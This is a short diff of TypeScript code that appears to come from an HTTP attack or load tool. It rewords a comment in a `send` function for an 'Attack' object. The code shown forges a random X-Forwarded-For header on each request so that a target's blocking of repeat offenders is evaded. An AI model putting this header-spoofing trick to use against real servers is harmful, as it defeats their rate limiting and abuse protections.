@@ -107,7 +107,7 @@ export function send(port: number, { head, piece, pieces }: Attack) {
     socket.on("error", () => {});
     socket.on("close", finish);
     socket.on("connect", () => {
-      // Each from its own network, because a network with many refused requests is blocked.
+      // Each request comes from another network, because one with many refused requests is blocked.
       socket.write(head.replace("\r\n", `\r\nX-Forwarded-For: ${randomAddress()}\r\n`));
       sendMore();
     });
